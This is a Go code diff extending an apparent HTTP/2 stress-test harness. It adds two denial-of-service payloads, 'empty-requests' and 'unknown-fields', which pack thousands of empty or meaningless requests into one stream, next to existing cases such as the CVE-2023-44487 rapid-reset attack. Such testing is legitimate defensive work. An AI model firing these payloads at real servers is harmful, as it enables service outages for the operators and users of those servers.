@@ -97,6 +97,19 @@ func (a *attacker) open() (uint32, error) {
 	return stream, a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.headers(), EndHeaders: true})
 }
 
+// requests sends whole requests in one stream, as far as flow control lets them.
+func (a *attacker) requests(data []byte) error {
+	if a.stream == 1 {
+		if _, err := a.open(); err != nil {
+			return err
+		}
+	}
+	if err := a.take(1, len(data)); err != nil {
+		return err
+	}
+	return a.WriteData(1, false, data)
+}
+
 var attacks = map[string]func(*attacker) error{
 	// CVE-2023-44487: streams that are reset as soon as they are opened.
 	"rapid-reset": func(a *attacker) error {
@@ -169,6 +182,12 @@ var attacks = map[string]func(*attacker) error{
 		return a.WriteRawFrame(http2.FrameType(200), 0xff, a.stream, make([]byte, 16384))
 	},
 	"data-on-stream-0": func(a *attacker) error { return a.WriteRawFrame(http2.FrameData, 0, 0, []byte{1}) },
+	// Requests without an octet, 3,200 in a frame.
+	"empty-requests": func(a *attacker) error { return a.requests(make([]byte, 16000)) },
+	// Requests of nothing but fields that nobody knows, each of which is read for nothing.
+	"unknown-fields": func(a *attacker) error {
+		return a.requests(append([]byte{0, 0, 0, 0x1f, 0x40}, bytes.Repeat([]byte{0x78, 1}, 4000)...))
+	},
 	"empty-data": func(a *attacker) error {
 		if a.stream == 1 {
 			if _, err := a.open(); err != nil {
